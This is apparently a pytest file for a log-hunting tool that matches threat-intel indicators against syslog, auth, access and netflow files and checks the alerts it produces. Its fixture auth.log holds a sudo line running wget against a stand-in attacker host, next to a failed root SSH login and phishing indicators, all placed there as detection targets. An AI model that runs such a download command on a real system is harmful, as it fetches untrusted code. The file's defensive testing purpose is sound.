"""`minisoc hunt` over saved syslog files (rsyslog JSON, auth.log text, an access log) and flow JSON, next to
a Zeek log: the same pipeline, ECS alerts with `event.dataset` syslog/netflow, `ip-dst|port` matched with the
flow's destination port, no substring matches, malformed lines counted (never lost well-formed records), and
the same alert ids on every read."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from minisoc.correlator.alerts import build_alerts
from minisoc.correlator.hunt import HuntRequest, run_hunt
from minisoc.correlator.matching.index import IndicatorIndex
from minisoc.correlator.matching.matcher import Matcher
from minisoc.correlator.model import Alert, Indicator
from minisoc.correlator.zeek import read_logs

EVENT = "5f0c2f4e-0000-4000-8000-0000000000e1"
ATTRIBUTES = [("ip-dst|port", "203.0.113.9|443"), ("domain", "evil.example.com"),
              ("email-src", "bad@phish.example.net"), ("url", "https://www.example.org/phish/login"),
              ("ip-src", "198.51.100.7"), ("ip-dst", "192.0.2.200")]
SYSLOG_JSON = [
    {"minisoc_input": "syslog", "@timestamp": "2026-12-04T21:15:55+00:00", "host": "mx",
     "from_ip": "192.0.2.7",     "program": "postfix", "pid": "98", "facility": "mail", "severity": "info",
     "message": "4F2A31C0: from=<Bad@Phish.Example.net>, size=1234, nrcpt=1 (queue active)", "protocol": "1"},
    {"minisoc_input": "syslog", "@timestamp": "2026-12-04T21:15:56+00:00", "host": "gw1",
     "program": "dnsmasq", "message": "query[A] evil.example.com.attacker.net from 192.0.2.50; reply "
                                      "x1.192.0.2.200 is notevil.example.co"},
]
AUTH_LOG = """\
Dec  4 21:15:53 gw1 sshd[812]: Failed password for root from 198.51.100.7 port 4711 ssh2
Dec  4 21:15:54 gw1 sshd[812]: Accepted publickey for alice from 192.0.2.10 port 50122 ssh2: RSA SHA256:ab
this line is no syslog
Dec  4 21:16:01 gw1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget http://a.evil.example.com/x
"""
ACCESS_LOG = ('www.example.org:443 203.0.113.80 - - [04/Dec/2026:21:15:53 +0000] '
              '"GET /phish/login?user=1 HTTP/1.1" '
              '200 512 "-" "curl/8.5.0"\n')
FLOWS = [
    {"event_type": "purge", "peer_ip_src": "192.0.2.1", "ip_src": "192.0.2.10", "ip_dst": "203.0.113.9",
     "port_src": 51234, "port_dst": 443, "ip_proto": "tcp", "timestamp_start": "2026-12-04 21:15:53.000000",
     "packets": 10, "bytes": 1234},
    {"event_type": "purge", "ip_src": "192.0.2.10", "ip_dst": "203.0.113.9", "port_src": 51235,
     "port_dst": 80, "ip_proto": "tcp", "timestamp_start": "2026-12-04 21:15:54.000000", "packets": 1,
     "bytes": 60},
]


def write_inputs(root: Path) -> dict[str, Path]:
    intel = root / "event.json"
    intel.write_text(json.dumps({"Event": {"uuid": EVENT, "info": "inputs hunt", "threat_level_id": "1",
                                           "Attribute": [{"uuid": f"5f0c2f4e-0000-4000-8000-0000000000a{n}",
                                                          "type": kind, "value": value, "to_ids": True,
                                                          "category": "Network activity"}
                                                         for n, (kind, value) in enumerate(ATTRIBUTES)]}}))
    syslog = root / "syslog" / "syslog-2026-12-04.json"
    syslog.parent.mkdir()
    syslog.write_text("".join(json.dumps(item) + "\n" for item in SYSLOG_JSON) + '{"minisoc_input": "sys\n')
    auth = root / "auth.log"
    auth.write_text(AUTH_LOG)
    access = root / "access.log"
    access.write_text(ACCESS_LOG)
    flows = root / "netflow" / "flows-2026-12-04.json"
    flows.parent.mkdir()
    flows.write_text("".join(json.dumps(item) + "\n" for item in FLOWS) + "[1, 2]\n")
    return {"intel": intel, "syslog": syslog, "auth": auth, "access": access, "flows": flows}


def hunt(paths: dict[str, Path], tmp_path: Path) -> tuple[list[Alert], Any]:
    alerts: list[Alert] = []
    logs = [str(paths[name]) for name in ("syslog", "auth", "access", "flows")]
    summary = run_hunt(HuntRequest(logs=logs, intel=[str(paths["intel"])],
                                   dead_letter=str(tmp_path / "dead.jsonl")), alerts.extend, now=1.8e9)
    return alerts, summary


def matched(alert: Alert) -> list[tuple[str, str]]:
    return [(item["matched"]["field"], item["matched"]["atomic"])
            for item in alert.doc["threat"]["enrichments"]]


def test_hunt_over_syslog_and_flow_files(tmp_path: Path) -> None:
    paths = write_inputs(tmp_path)
    alerts, summary = hunt(paths, tmp_path)
    by_field = {pair: alert for alert in alerts for pair in matched(alert)}
    assert set(by_field) == {
        ("email.from.address", "Bad@Phish.Example.net"),
        ("source.ip", "198.51.100.7"),
        ("related.hosts", "a.evil.example.com"),  # the host of a URL in a sudo command: below a domain
        ("url.full", "https://www.example.org/phish/login?user=1"),
        ("destination.ip", "203.0.113.9"),
    }
    flow = by_field[("destination.ip", "203.0.113.9")]
    assert flow.doc["event"]["dataset"] == "netflow"
    assert flow.doc["destination"] == {"ip": "203.0.113.9", "port": 443}
    assert flow.doc["network"]["transport"] == "tcp" and flow.doc["threat"]["indicator"]["port"] == 443
    assert len([a for a in alerts if a.doc["event"]["dataset"] == "netflow"]) == 1  # the port-80 flow: none
    ssh = by_field[("source.ip", "198.51.100.7")]
    assert ssh.doc["event"]["dataset"] == "syslog"
    assert ssh.doc["source"] == {"ip": "198.51.100.7", "port": 4711}
    assert ssh.doc["log"]["syslog"]["appname"] == "sshd" and ssh.doc["user"]["name"] == "root"
    assert ssh.doc["message"].startswith("Failed password") and "zeek" not in ssh.doc
    assert ssh.doc["log"]["file"]["path"] == str(paths["auth"])
    # malformed: one truncated JSON line, one text line, one JSON array; every other record read
    read = summary.read
    assert read.malformed == {"invalid_json": 1, "not_syslog": 1, "not_an_object": 1}
    assert read.lines == {"syslog": 6, "netflow": 2}
    assert len((tmp_path / "dead.jsonl").read_text().splitlines()) == 3


def test_no_substring_match_in_a_message(tmp_path: Path) -> None:
    """`evil.example.com.attacker.net`, `x1.192.0.2.200`, `notevil.example.co`: none is an indicator."""
    paths = write_inputs(tmp_path)
    alerts, _ = hunt(paths, tmp_path)
    assert alerts and not [alert for alert in alerts if "dnsmasq" in alert.doc["event"]["original"]]


def test_the_same_alert_ids_on_every_read_and_through_the_record_path(tmp_path: Path) -> None:
    paths = write_inputs(tmp_path)
    first, _ = hunt(paths, tmp_path)
    second, _ = hunt(paths, tmp_path)
    assert [a.id for a in first] == [a.id for a in second] and len({a.id for a in first}) == len(first)
    index = IndicatorIndex.build([Indicator("203.0.113.9", "ip", "ip-dst|port", "feed", port=443),
                                  Indicator("198.51.100.7", "ip", "ip-src", "feed")])
    matcher = Matcher(index)
    live = [alert for record in read_logs([paths["flows"], paths["auth"]])
            for alert in build_alerts(record, matcher.match(record), now=1.8e9)]
    assert {a.id for a in live} <= {a.id for a in first} and len(live) == 2


def test_zeek_json_and_tsv_are_not_taken_for_inputs(tmp_path: Path) -> None:
    """The sniff leaves Zeek's own records (syslog.log, reporter.log have a `message`) to the Zeek parsers."""
    zeek = tmp_path / "syslog.log"
    zeek.write_text('{"ts":1733346953.5,"uid":"C1","id.orig_h":"192.0.2.5","id.orig_p":514,'
                    '"id.resp_h":"192.0.2.6","id.resp_p":514,"proto":"udp","facility":"AUTH",'
                    '"severity":"INFO","message":"sshd[1]: Failed password for root from 198.51.100.7"}\n')
    (record,) = list(read_logs([zeek]))
    assert record.log_type == "syslog" and record.fields["id.orig_h"] == "192.0.2.5"
    assert "source.ip" not in record.fields  # read as Zeek's syslog.log record, its fields as Zeek wrote them
    tsv = tmp_path / "conn.log"
    tsv.write_text("#separator \\x09\n#fields\tts\tuid\tid.orig_h\n#types\ttime\tstring\taddr\n"
                   "1733346953.5\tC1\t192.0.2.5\n")
    (conn,) = list(read_logs([tsv]))
    assert conn.log_type == "conn" and conn.fields["id.orig_h"] == "192.0.2.5"
